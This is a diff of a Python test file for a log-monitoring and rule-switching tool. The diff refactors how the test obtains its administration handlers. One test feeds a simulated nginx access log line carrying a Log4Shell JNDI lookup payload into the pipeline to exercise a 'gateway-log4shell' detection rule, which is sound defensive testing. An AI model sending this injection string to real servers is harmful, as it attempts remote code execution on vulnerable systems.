@@ -11,10 +11,11 @@ from machine import HandClock, Machine, RemoteSensor, access, framed, now, until
 from typer.testing import CliRunner
 
 from collector.state.missed import MissedTable
-from fengsui.administration import Administration, handlers
+from fengsui.administration import handlers
 from fengsui.clock import SystemClock
 from fengsui.folder import DataFolder
 from fengsui.rules_cli import app
+from fengsui.serve import _served
 from fengsui.wiring import Site
 from schema.errors import FengsuiError
 from schema.times import MINUTE, SECOND
@@ -124,7 +125,8 @@ def test_a_time_nobody_understands_is_refused(machine: Machine, since: str) -> N
 
 def test_a_running_platform_follows_a_switch_and_loses_nothing(machine: Machine) -> None:
     site = machine.open()
-    commands = handlers(_administration(site))
+    served = _served(site, "/", sibling=None)
+    commands = handlers(served.administration)
     log4shell = access("/?q=${jndi:ldap://x/a}", ip="192.0.2.1", at=now(5))
     machine.write("nginx-access", log4shell)
     until(site, lambda: site.pipeline.progress.events == 1)
@@ -145,27 +147,8 @@ def test_a_running_platform_follows_a_switch_and_loses_nothing(machine: Machine)
         commands["rule-switch"]({"rule": "gateway-log4shell", "enabled": "1", "reason": " "})
     with pytest.raises(FengsuiError, match=r"fengsui\.rule\.unknown"):
         commands["rule-switch"]({"rule": "none", "enabled": "1", "reason": "x"})
+    served.services.audit.close()
     site.close()
-
-
-def _administration(site: Site) -> Administration:
-    from dashboard_api.access.access import Access
-    from dashboard_api.access.accounts import Accounts
-    from dashboard_api.audit import AuditChain
-
-    clock = SystemClock()
-    audit = AuditChain(site.database, site.keyring.audit, clock)
-    return Administration(
-        enrolments=site.enrolments,
-        clients=site.clients,
-        access=Access(site.database, audit, clock=clock, entropy=site.entropy),
-        accounts=Accounts(site.database, audit, clock=clock, entropy=site.entropy),
-        audit=audit,
-        rulebook=site.rulebook,
-        adopt=site.pipeline.adopt,
-        replay=site.second_look.ask,
-        replay_told=lambda: site.second_look.told,
-    )
 
 
 @pytest.fixture
